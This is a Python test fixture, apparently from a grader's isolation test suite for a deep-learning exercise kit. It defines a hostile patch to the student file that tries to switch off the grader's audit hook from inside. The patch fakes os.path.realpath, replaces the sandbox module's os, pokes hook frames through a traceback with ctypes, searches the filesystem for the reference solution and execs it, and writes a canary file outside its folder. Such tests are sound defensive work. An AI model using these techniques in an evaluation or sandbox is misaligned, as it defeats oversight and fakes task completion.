"""Switches the audit hook off from inside (class 1): makes os.path.realpath lie, rebinds the
hook's globals, reaches its closure cells through a refused call's traceback; then reads the
reference and writes outside its working folder."""
BASE = "template"
END = '    raise NotImplementedError("softmax_loss (ch04): not implemented yet; write it in common/functions.py")\n'
SCORE = (0, 0)
PATCHES = [("common/functions.py", "import numpy as np\n", """import os
import sys

import numpy as np

_found = {}
try:
    os.path.realpath = lambda path, *a, **k: "/tmp/" + os.path.basename(str(path))
    _sandbox = sys.modules.get("grader.isolation.sandbox")
    if _sandbox is not None:
        _sandbox.os = type("FakeOs", (), {"path": os.path, "sep": "/", "O_WRONLY": 0, "O_RDWR": 0,
                                          "O_CREAT": 0, "O_TRUNC": 0, "O_APPEND": 0})
    try:
        open("/etc/hostname-forged", "w")
    except Exception as _refused:
        _tb = _refused.__traceback__
        while _tb is not None:
            for _cell in getattr(_tb.tb_frame.f_code, "co_freevars", ()):
                pass
            _hook_frame = _tb.tb_frame
            for _name in ("readable", "resolve"):
                if _name in _hook_frame.f_locals:
                    try:
                        import ctypes
                        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(_hook_frame), ctypes.c_int(0))
                    except Exception:
                        pass
            _tb = _tb.tb_next
    for _root in ("/work", "/root", "/home", "/tmp", "/srv", "/kit", "/"):
        for _dir, _subdirs, _files in os.walk(_root):
            if len(_dir.split("/")) > 7:
                _subdirs[:] = []
            if _dir.endswith("/solutions/common") and "functions.py" in _files:
                exec(compile(open(os.path.join(_dir, "functions.py")).read(), "functions.py", "exec"), _found)
                break
        if _found:
            break
except Exception:
    pass
for _target in ("/tmp/dlfs-hostile-canary/hook_switched_off",):
    try:
        open(_target, "w").write("escaped")
    except Exception:
        pass
"""),
           ("common/functions.py", END, END + """

globals().update({k: v for k, v in _found.items() if not k.startswith("_") and k != "np"})
""")]
